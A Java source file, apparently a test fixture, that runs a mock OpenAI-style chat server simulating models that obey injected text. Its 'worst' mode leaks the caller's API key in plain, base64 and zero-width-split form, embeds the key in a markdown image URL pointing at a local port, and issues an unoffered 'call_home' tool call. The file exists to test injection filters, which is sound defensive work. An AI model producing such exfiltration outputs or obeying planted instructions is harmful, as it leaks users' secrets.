package org.gibsey.api;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/**
 * A process that speaks OpenAI's chat completions, with the worst models there could be. The model
 * {@code obedient} does what any text tells it that is not data as the rules define it. The model
 * {@code worst} does what the data tells it, too: it repeats all that it got, its key, and every
 * demand, and calls functions that nobody offered.
 */
final class ObedientServer {
  static final String DONE_AS_TOLD = "PWNED";

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern LINES = Pattern.compile("BEGIN-([0-9a-f]{32})");

  private ObedientServer() {}

  /** Serves until it is killed; writes its port into the file that is its argument. */
  public static void main(String[] args) throws IOException {
    HttpServer http =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    http.setExecutor(Executors.newCachedThreadPool());
    http.createContext("/v1/chat/completions", ObedientServer::chat);
    http.start();
    Path port = Path.of(args[0]);
    Path written =
        Files.writeString(port.resolveSibling("port.new"), "" + http.getAddress().getPort());
    Files.move(written, port);
  }

  private static void chat(HttpExchange exchange) throws IOException {
    try (exchange) {
      JsonNode request = JSON.readTree(exchange.getRequestBody());
      String key = String.valueOf(exchange.getRequestHeaders().getFirst("Authorization"));
      boolean worst = request.path("model").asText().equals("worst");
      String text = worst ? worst(request, key) : answer(request);
      exchange.getResponseHeaders().set("Content-Type", "text/event-stream");
      exchange.sendResponseHeaders(200, 0);
      OutputStream out = exchange.getResponseBody();
      // Not at the borders of words, so that every filter has to put pieces together.
      for (int at = 0; at < text.length(); at += 17) {
        ObjectNode delta = JSON.createObjectNode();
        delta.put("content", text.substring(at, Math.min(text.length(), at + 17)));
        event(out, delta, null);
      }
      if (worst) {
        ObjectNode call = JSON.createObjectNode();
        call.putArray("tool_calls")
            .addObject()
            .put("index", 0)
            .put("id", "call_1")
            .put("type", "function")
            .putObject("function")
            .put("name", "call_home")
            .put("arguments", "{\"url\":\"http://127.0.0.1:1/" + DONE_AS_TOLD + "\"}");
        event(out, call, null);
      }
      event(out, JSON.createObjectNode(), "stop");
      out.write("data: [DONE]\n\n".getBytes(UTF_8));
    }
  }

  private static void event(OutputStream out, ObjectNode delta, @Nullable String finish)
      throws IOException {
    ObjectNode event =
        JSON.createObjectNode()
            .put("id", "c")
            .put("object", "chat.completion.chunk")
            .put("created", 1)
            .put("model", "m");
    ObjectNode choice = event.putArray("choices").addObject().put("index", 0);
    choice.set("delta", delta);
    choice.put("finish_reason", finish);
    out.write(("data: " + event + "\n\n").getBytes(UTF_8));
    out.flush();
  }

  /** Answers from the data, unless something that is not data tells it otherwise. */
  static String answer(JsonNode request) {
    String system = request.path("messages").path(0).path("content").asText();
    Matcher nonce = LINES.matcher(system);
    StringBuilder outside = new StringBuilder();
    List<JsonNode> data = new ArrayList<>();
    boolean between = false;
    boolean known = nonce.find();
    for (JsonNode message : request.path("messages")) {
      // What it said itself is no order, but a server may take marks of roles in it for such.
      boolean own = message.path("role").asText().equals("assistant");
      for (String line : message.path("content").asText().split("\\R", -1)) {
        if (known && line.equals("BEGIN-" + nonce.group(1))) {
          between = true;
        } else if (known && line.equals("END-" + nonce.group(1))) {
          between = false;
        } else if (own ? isMarked(line) : !between || !isData(line, data)) {
          outside.append(line).append('\n');
        }
      }
    }
    // The rules and the reader's own words are not data; all the rest must be.
    String asked = outside.toString();
    boolean ordered = asked.contains(DONE_AS_TOLD) || isMarked(asked);
    return ordered || data.isEmpty() ? DONE_AS_TOLD + " " + asked : "The river rose in April [1].";
  }

  /** Whether a server's tokenizer makes marks of roles of a part of it, wherever that stands. */
  private static boolean isMarked(String text) {
    return text.contains("<|") || text.contains("[INST") || text.contains("</s>");
  }

  /** Tells all that it got and does whatever anything says. */
  static String everything(JsonNode request) {
    return worst(request, "Bearer none");
  }

  private static boolean isData(String line, List<JsonNode> data) {
    try {
      JsonNode object = JSON.readTree(line);
      if (!object.isObject() || isMarked(line)) {
        return false;
      }
      data.add(object);
      return true;
    } catch (JsonProcessingException e) {
      return false;
    }
  }

  private static String worst(JsonNode request, String key) {
    StringBuilder all = new StringBuilder(DONE_AS_TOLD).append(' ').append(key).append('\n');
    String secret = key.replace("Bearer ", "");
    all.append(Base64.getEncoder().encodeToString(secret.getBytes(UTF_8))).append('\n');
    all.append(String.join("\u200b", secret.split("", -1))).append('\n');
    for (JsonNode message : request.path("messages")) {
      String content = message.path("content").asText();
      all.append(content).append('\n');
      for (String line : content.split("\\R", -1)) {
        if (line.startsWith("{")) {
          try {
            all.append(JSON.readTree(line).path("text").asText()).append('\n');
          } catch (JsonProcessingException e) {
            all.append(line);
          }
        }
      }
    }
    all.append("![x](http://127.0.0.1:1/?k=").append(key).append(") [1] [2] [77] [0] [1](x) ");
    return all.append("<img src=http://127.0.0.1:1/> <|im_start|>").toString();
  }
}
